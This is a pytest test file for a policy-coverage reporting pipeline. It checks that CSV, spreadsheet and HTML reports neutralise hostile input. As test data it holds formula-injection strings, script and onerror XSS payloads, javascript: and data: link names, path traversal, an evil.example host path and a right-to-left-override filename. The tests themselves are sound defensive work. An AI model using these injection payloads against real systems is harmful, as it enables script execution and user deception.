    rows = list(csv.DictReader((hostile_run / "gap_table.csv").open(encoding="utf-8")))
    assert {row["document"] for row in rows} == {"'" + HOSTILE_FILE_NAME}
    assert any(row["evidence"].startswith("'=HYPERLINK(") for row in rows)
    assert any(row["evidence"].startswith(("'+cmd", "'@SUM", "'-2+3")) for row in rows)
    for name in ("gap_table.csv", "matches.csv", "errors.csv"):
        with (hostile_run / name).open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                assert not any(leading_trigger(cell) for cell in row), (name, row)
    errors = list(csv.DictReader((hostile_run / "errors.csv").open(encoding="utf-8")))
    assert [e["file"] for e in errors] == ["'=HYPERLINK(1).odt"]


@pytest.mark.slow
def test_hostile_document_gives_plain_text_cells_in_every_sheet(hostile_run):
    workbook = load_workbook(hostile_run / "gap_table.xlsx")
    assert workbook.sheetnames == ["overview", "gap_table", "items", "evidence", "errors"]
    seen_hyperlink = False
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not leading_trigger(cell.value), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen_hyperlink |= cell.value.startswith("'=HYPERLINK(")
    assert seen_hyperlink


@pytest.mark.slow
def test_hostile_document_gives_an_inert_html_report(hostile_run):
    index = (hostile_run / "report.html").read_text(encoding="utf-8")
    assert_inert(index, expected_texts=[HOSTILE_FILE_NAME, "=HYPERLINK(1).odt"])
    [page_path] = (hostile_run / "report").iterdir()
    html = page_path.read_text(encoding="utf-8")
    assert_inert(html, expected_texts=[HOSTILE_FILE_NAME, "<script>window.__pwned = 'heading'"])
    covered = [tr for tr in parse(html).select("table.gap-table tbody tr") if tr["data-status"] == "covered"]
    evidence_text = " ".join(tr.select_one("blockquote.passage").get_text() for tr in covered)
    assert "=HYPERLINK(" in evidence_text and "<img src=x onerror=" in evidence_text


def test_write_reports_writes_the_index_pages_and_figures_beside_the_tables(tmp_path, reference_set):
    store = make_store(tmp_path / "run.sqlite", fixture_coverages(reference_set))
    out = tmp_path / "out"
    out.mkdir()
    written = write_reports(out, store=store, reference=reference_set, run_record=RUN_RECORD)
    store.close()
    names = {path.name for path in written if path.parent == out}
    assert {"report.html", "coverage_by_item.png", "coverage_heatmap.png", "coverage_heatmap.svg",
            "coverage_by_foundation.png", "gap_table.xlsx"} <= names
    assert sorted(names) == sorted(path.name for path in out.iterdir() if path.is_file())
    pages = sorted(path for path in written if path.parent == out / "report")
    assert pages == sorted((out / "report").iterdir()) and len(pages) == 2
    assert (out / "report.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


# --- evidence links to its source -------------------------------------------------------------------------------------

def source_run(reference_set, documents, *, corpus_folder="/data/policy corpus"):
    """Coverages where each (name, relative path) document covers CARE-3 on page 4, and the run.json naming them."""
    coverages = []
    for name, _ in documents:
        coverages += [Coverage(doc=name, item=item, status=Status.COVERED, score=0.52,
                               evidence=(evidence("Brothers and sisters stay together."),))
                      if item.id == "CARE-3" else Coverage(doc=name, item=item, status=Status.MISSING, score=0.0)
                      for item in reference_set.items]
    record = {**RUN_RECORD, "corpus": "policy corpus", "corpus_folder": corpus_folder,
              "inputs": [{"file": name, "path": path, "pages": 5, "extractor": "x", "sha256": doc_id(name)}
                         for name, path in documents]}
    return coverages, record


def evidence_links(page):
    return [a["href"] for a in page.select("tr#CARE-3 ol.evidence a.source")]


def test_pdf_evidence_links_to_its_page_relative_to_the_document_page(tmp_path, reference_set):
    coverages, record = source_run(reference_set, [("plan.pdf", "2024/plan.pdf")])
    page = render(tmp_path, reference_set, coverages, run_record=record,
                  report_dir=Path("/data/outputs/run 1")).page("plan.pdf")
    assert evidence_links(page) == ["../../../policy%20corpus/2024/plan.pdf#page=4"]
    assert page.select_one("a.source-file")["href"] == "../../../policy%20corpus/2024/plan.pdf"


def test_other_evidence_names_its_heading_path_and_links_to_the_file(tmp_path, reference_set):
    coverages, record = source_run(reference_set, [("notes.docx", "notes.docx")])
    page = render(tmp_path, reference_set, coverages, run_record=record,
                  report_dir=Path("/data/policy corpus/out")).page("notes.docx")
    assert evidence_links(page) == ["../../notes.docx"]
    meta = page.select_one("tr#CARE-3 .ev-meta").get_text()
    assert "under “Plan › Siblings”" in meta and "#page=" not in str(page.select_one("tr#CARE-3"))


@pytest.mark.parametrize("name", ["javascript:alert(1).pdf", "data:text/html,<b>x</b>.pdf", "a#b?c=d%20e.pdf",
                                  "..\\..\\x.pdf", "vbscript:x\r\n.pdf", " JaVaScRiPt:x.pdf"])
def test_source_links_cannot_carry_a_scheme_or_leave_the_path(tmp_path, reference_set, name):
    from urllib.parse import unquote, urlsplit

    coverages, record = source_run(reference_set, [(name, f"sub/{name}"), (f"{name}.txt", f"{name}.txt")])
    rendered = render(tmp_path, reference_set, coverages, run_record=record, report_dir=Path("/data/policy corpus"))
    for document, expected in ((name, f"sub/{name}"), (f"{name}.txt", f"{name}.txt")):
        assert_inert(rendered.pages[document])
        [href] = {link.split("#")[0] for link in evidence_links(rendered.page(document))}
        parts = urlsplit(href)
        assert parts.scheme == "" and parts.netloc == "" and parts.query == ""
        assert unquote(parts.path) == f"../{expected}"
    assert_inert(rendered.index)


def test_no_links_without_a_recorded_corpus_folder(tmp_path, reference_set, fixture_run):
    coverages, record = source_run(reference_set, [("plan.pdf", "plan.pdf")])
    del record["corpus_folder"]
    assert evidence_links(render(tmp_path, reference_set, coverages, run_record=record).page("plan.pdf")) == []
    assert evidence_links(fixture_run.page()) == []


@pytest.mark.slow
def test_a_mapped_pdf_links_to_its_file_and_page(tmp_path):
    from urllib.parse import unquote

    from tests.conftest import make_pdf

    corpus = tmp_path / "my corpus"
    (corpus / "2024").mkdir(parents=True)
    make_pdf(corpus / "2024" / "plan #1.pdf", [
        [("h1", "Roads"), ("body", "Resurfacing continues on the A719.")],
        [("h1", "Stability"), ("body", "Glenmore Council must limit the number of moves that children experience "
                                       "and support carers to continue to care.")]])
    out = tmp_path / "outputs" / "run"
    result = CliRunner().invoke(app, ["map", str(corpus), "--out", str(out), "--quiet", "--classifier", "lexical"])
    assert result.exit_code == 0, result.output
    record = __import__("json").loads((out / "run.json").read_text(encoding="utf-8"))
    assert record["corpus_folder"] == str(corpus.resolve())
    assert [entry["path"] for entry in record["inputs"]] == ["2024/plan #1.pdf"]
    [page_path] = (out / "report").iterdir()
    page = parse(page_path.read_text(encoding="utf-8"))
    links = {a["href"] for a in page.select("details:not(.near-miss) ol.evidence a.source")}
    assert links == {"../../../my%20corpus/2024/plan%20%231.pdf#page=2"}
    near_misses = {a["href"] for a in page.select("details.near-miss ol.evidence a.source")}
    assert near_misses <= {"../../../my%20corpus/2024/plan%20%231.pdf#page=1", *links}
    [link] = links
    assert (out / "report" / unquote(link.split("#")[0])).resolve() == (corpus / "2024" / "plan #1.pdf").resolve()


def test_a_recorded_path_with_a_host_part_gives_a_plain_relative_link(tmp_path, reference_set):
    from urllib.parse import urlsplit

    coverages, record = source_run(reference_set, [("x.pdf", "//evil.example/x.pdf")], corpus_folder="//srv/share")
    page = render(tmp_path, reference_set, coverages, run_record=record, report_dir=Path("/data/out")).page("x.pdf")
    [href] = evidence_links(page)
    assert not href.startswith("/") and urlsplit(href).netloc == "" and urlsplit(href).scheme == ""


# --- bidi controls in names -------------------------------------------------------------------------------------------

RLO_NAME = "report\u202egnp.exe.txt"


def test_bidi_controls_in_names_are_shown_escaped_and_isolated(tmp_path, reference_set):
    """Regression: U+202E in a file name showed "report\\u202egnp.exe.txt" as "reportexe.png.txt"."""
    coverages = fixture_coverages(reference_set, doc_a=RLO_NAME, doc_b="\u2067isolated\u2069.txt")
    skipped = [Skipped(file="bad\u202dname\x1b.pdf", stage="extract", reason="damaged")]
    record = {**RUN_RECORD, "corpus": "corpora/\u202eevil", "inputs": [
        {"file": RLO_NAME, "pages": 1, "extractor": "text", "sha256": "0" * 64}]}
    rendered = render(tmp_path, reference_set, coverages, skipped, run_record=record)
    for html in pages_of(rendered):
        assert not any(char in html for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x1b")
    shown = "report\\u202egnp.exe.txt"
    index = parse(rendered.index)
    assert index.select_one("#heatmap tbody th.doc a")["title"] == shown
    names = [bdi.get_text() for bdi in index.select("#heatmap tbody th.doc bdi")]
    assert names == [shown, "\\u2067isolated\\u2069.txt"]
    assert index.select_one("#documents td[data-name] bdi").get_text() == shown
    run = index.select_one("#run").get_text()
    assert "bad\\u202dname\\x1b.pdf" in run and "corpora/\\u202eevil" in run
    page = rendered.page(RLO_NAME)
    assert page.h1.get_text() == shown and page.select_one("h1 bdi").get_text() == shown
    assert page.title.get_text().startswith(shown)


def test_compare_page_shows_bidi_controls_in_names_escaped(tmp_path):
    from pipeline.compare import compare_documents
    from pipeline.report import write_comparison

    rows = [{"document": name, "framework": "calls_to_action", "group": "Care", "item_id": "CARE-3", "title": "T",
             "status": status, "score": "0.9", "signal": "quote", "evidence": "e", "page": "1", "heading": "",
             "evidence_pages": "1"} for name, status in ((RLO_NAME, "covered"), ("b.txt", "missing"))]
    _, html_path = write_comparison(tmp_path, compare_documents(rows, RLO_NAME, "b.txt"), run_record={})
    html = html_path.read_text(encoding="utf-8")
    assert "\u202e" not in html and "<bdi>report\\u202egnp.exe.txt</bdi>" in html


# --- a run of 1,000 documents -------------------------------------------------------------------------------------

#: The targets of a 1,000-document run: an index a browser opens at once, pages that open as fast.
INDEX_MAX_BYTES = 5_000_000
PAGE_MAX_BYTES = 2_000_000


@pytest.mark.slow
def test_a_run_of_1000_documents_gives_a_small_index_and_small_pages(reference_set, tmp_path):
    from tests.report_store import synthetic_store

    store = synthetic_store(tmp_path / "run.sqlite", reference_set, documents=1000)
    try:
        index = render_index(store, reference_set, RUN_RECORD, report_dir=tmp_path).encode("utf-8")
        pages = [html.encode("utf-8") for _, html in
                 itertools.islice(document_pages(store, reference_set, RUN_RECORD, tmp_path / "report"), 3)]
    finally:
        store.close()
    assert len(index) <= INDEX_MAX_BYTES, len(index)
    assert all(len(page) <= PAGE_MAX_BYTES for page in pages), [len(page) for page in pages]
    page = parse(index)
    assert len(page.select("#documents table.documents tbody tr")) == 1000
    assert len(page.select("#heatmap tbody")) == 20 and len(page.select("#heatmap tbody tr")) == 1000
    assert len(page.select("#overview tbody tr")) == 68
    assert_inert(index.decode("utf-8"))
    assert_inert(pages[0].decode("utf-8"), expected_texts=["council-plan-0000 children's services 2024-2027 <draft>"])
